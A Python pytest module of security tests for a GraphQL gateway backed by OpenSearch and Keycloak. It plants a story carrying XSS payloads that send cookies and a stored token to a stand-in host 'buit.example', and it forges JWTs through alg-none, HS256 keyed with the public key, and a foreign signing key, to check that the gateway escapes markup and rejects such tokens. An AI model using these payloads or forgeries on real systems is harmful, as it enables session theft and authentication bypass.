"""Attacks on the GraphQL gateway: the real app on real OpenSearch and real Keycloak.

The seeded index, the gateway client and the tokens are the gateway's integration fixtures (imported, not
copied). On top of them: a planted story with markup in it, forged tokens, and short-lived Keycloak clients that
issue genuinely expired and wrongly addressed tokens.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import os
import time
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from fastapi import FastAPI
from fastapi.testclient import TestClient
from keycloak import KeycloakAdmin, KeycloakOpenID
from opensearchpy import OpenSearch

from tests.integration.gateway.conftest import (  # noqa: F401  (fixtures)
    corpus,
    gateway,
    gateway_tokens,
    seeded_alias,
)
from tests.integration.keycloak_tokens import DEMO_PASSWORD
from vertelpunt.cli.seed import MUNICIPALITIES, SeedStory, to_sector_envelope
from vertelpunt.gateway.app import create_app
from vertelpunt.gateway.settings import GatewaySettings
from vertelpunt.search.documents import to_document

SIGNED_IN_USER = "analist.sector"
# A word no seeded story uses, so a search finds exactly the planted story.
PLANTED_WORD = "kwartelkoning"
PLANTED_TITLE = f'Over de {PLANTED_WORD} <img src=q onerror="fetch(`//buit.example/`+document.cookie)">'
PLANTED_TEXT = (f"Bij de aanvraag voor de {PLANTED_WORD} typte iemand "
                "<script>new Image().src='//buit.example/?k='+localStorage.token</script> en daarna "
                f"<a href=\"javascript:alert(7)\">klik</a>; de {PLANTED_WORD} & de rest bleef 'gewoon' staan.")


def gql(client: TestClient, query: str, token: str | None = None, **variables: Any) -> dict[str, Any]:
    """A GraphQL call that must be answered as GraphQL (200, JSON), whatever it contains."""
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    response = client.post("/graphql", json={"query": query, "variables": variables}, headers=headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/json"
    body: dict[str, Any] = response.json()
    return body


def codes(body: dict[str, Any]) -> list[str]:
    return [e.get("extensions", {}).get("code", "") for e in body.get("errors") or []]


@pytest.fixture(scope="session")
def token(gateway_tokens: dict[str, str]) -> str:  # noqa: F811
    return gateway_tokens[SIGNED_IN_USER]


@pytest.fixture
def derived_gateway(gateway: TestClient) -> Iterator[Callable[..., TestClient]]:  # noqa: F811
    """Another gateway on the same index and Keycloak, with some settings changed."""
    opened: list[TestClient] = []

    def make(**changes: Any) -> TestClient:
        settings: GatewaySettings = gateway.app.state.settings  # type: ignore[attr-defined]
        client = TestClient(create_app(settings.model_copy(update=changes)), raise_server_exceptions=False)
        opened.append(client)
        return client

    yield make
    for client in opened:
        client.close()


@pytest.fixture(scope="session")
def planted_story(seeded_alias: str, corpus: list[SeedStory], opensearch_url: str) -> str:  # noqa: F811
    """A story whose title and text carry markup, indexed next to the seeded corpus (same context as a seeded
    story, so disclosure control lists it like any other). The markup is put on the sector story itself: the
    gateway must escape whatever reached the index, whatever the intake's anonymiser would have made of it."""
    story = corpus[11]
    envelope = to_sector_envelope(story, MUNICIPALITIES[story.tenant][1])
    envelope.story_shared.title, envelope.story_shared.text = PLANTED_TITLE, PLANTED_TEXT
    client = OpenSearch(hosts=[opensearch_url], timeout=30)
    client.index(index=seeded_alias, id=envelope.story_shared.story_id, body=to_document(envelope), refresh=True)
    story_id: str = envelope.story_shared.story_id
    return story_id


@pytest.fixture
def opensearch_calls(gateway: TestClient, monkeypatch: pytest.MonkeyPatch) -> list[str]:  # noqa: F811
    """Every OpenSearch call the gateway makes during the test, with the name of the thread that made it."""
    calls: list[str] = []
    client = gateway.app.state.opensearch  # type: ignore[attr-defined]
    for method in ("search", "mget", "count", "msearch"):
        original = getattr(client, method)

        def recorded(*args: Any, _original: Any = original, _method: str = method, **kwargs: Any) -> Any:
            import threading

            calls.append(f"{_method}@{threading.current_thread().name}")
            return _original(*args, **kwargs)

        monkeypatch.setattr(client, method, recorded)
    return calls


# --- forged and misaddressed tokens ------------------------------------------------------------------------

def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _unverified(token: str) -> tuple[dict[str, Any], dict[str, Any]]:
    return jwt.get_unverified_header(token), jwt.decode(token, options={"verify_signature": False})


@pytest.fixture(scope="session")
def realm_public_pem(keycloak_url: str) -> bytes:
    keys = httpx.get(f"{keycloak_url}/realms/vertelpunt/protocol/openid-connect/certs", timeout=10).json()["keys"]
    rsa_key = next(k for k in keys if k["kty"] == "RSA" and k.get("use", "sig") == "sig")
    public = jwt.PyJWK(rsa_key).key
    pem: bytes = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    return pem


@pytest.fixture(scope="session")
def forged_tokens(token: str, realm_public_pem: bytes) -> dict[str, str]:
    """Tokens with the real user's claims (fresh expiry) that no honest issuer signed."""
    header, claims = _unverified(token)
    claims = {**claims, "exp": int(time.time()) + 600, "iat": int(time.time())}
    payload = _b64(json.dumps(claims).encode())
    own_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)

    none_header = _b64(json.dumps({"alg": "none", "typ": "JWT", "kid": header["kid"]}).encode())
    hs_header = _b64(json.dumps({"alg": "HS256", "typ": "JWT", "kid": header["kid"]}).encode())
    hs_signature = hmac.new(realm_public_pem, f"{hs_header}.{payload}".encode(), hashlib.sha256).digest()
    return {
        "alg-none": f"{none_header}.{payload}.",
        "alg-none-with-signature": f"{none_header}.{payload}.{token.split('.')[2]}",
        "hs256-with-public-key": f"{hs_header}.{payload}.{_b64(hs_signature)}",
        "unknown-kid": jwt.encode(claims, own_key, algorithm="RS256", headers={"kid": "niet-van-keycloak-42"}),
        "own-key-real-kid": jwt.encode(claims, own_key, algorithm="RS256", headers={"kid": header["kid"]}),
        "claims-changed": ".".join([token.split(".")[0], _b64(json.dumps({**claims, "tenant": "GM0363"}).encode()),
                                    token.split(".")[2]]),
    }


@pytest.fixture(scope="session")
def keycloak_admin(keycloak_url: str) -> KeycloakAdmin:
    return KeycloakAdmin(server_url=f"{keycloak_url}/", username=os.environ.get("VERTELPUNT_KEYCLOAK_ADMIN", "admin"),
                         password=os.environ.get("VERTELPUNT_KEYCLOAK_ADMIN_PASSWORD", "admin"),
                         realm_name="vertelpunt", user_realm_name="master")


def _audience_mapper(client_id: str) -> dict[str, Any]:
    return {"name": f"audience-{client_id}", "protocol": "openid-connect", "protocolMapper": "oidc-audience-mapper",
            "config": {"included.client.audience": client_id, "access.token.claim": "true",
                       "id.token.claim": "false"}}


@pytest.fixture(scope="session")
def issued_by_temporary_client(keycloak_admin: KeycloakAdmin, keycloak_url: str) -> Iterator[Callable[..., str]]:
    """Real, correctly signed Keycloak tokens from short-lived public clients (removed afterwards): with a
    one-second lifetime, or addressed to another service than the gateway."""
    created: list[str] = []

    def issue(name: str, audience: str, lifespan_seconds: int | None = None) -> str:
        client_id = f"security-test-{name}-{os.getpid()}"
        attributes = {"access.token.lifespan": str(lifespan_seconds)} if lifespan_seconds else {}
        created.append(keycloak_admin.create_client({
            "clientId": client_id, "publicClient": True, "directAccessGrantsEnabled": True,
            "standardFlowEnabled": False, "attributes": attributes,
            "protocolMappers": [_audience_mapper(audience)]}, skip_exists=True))
        openid = KeycloakOpenID(server_url=f"{keycloak_url}/", realm_name="vertelpunt", client_id=client_id)
        issued: str = openid.token(SIGNED_IN_USER, DEMO_PASSWORD)["access_token"]
        return issued

    yield issue
    for internal_id in created:
        keycloak_admin.delete_client(internal_id)


def wait_until_expired(token: str) -> None:
    expiry = int(jwt.decode(token, options={"verify_signature": False})["exp"])
    while time.time() <= expiry + 1:
        time.sleep(0.2)


def app_of(client: TestClient) -> FastAPI:
    app: FastAPI = client.app  # type: ignore[assignment]
    return app
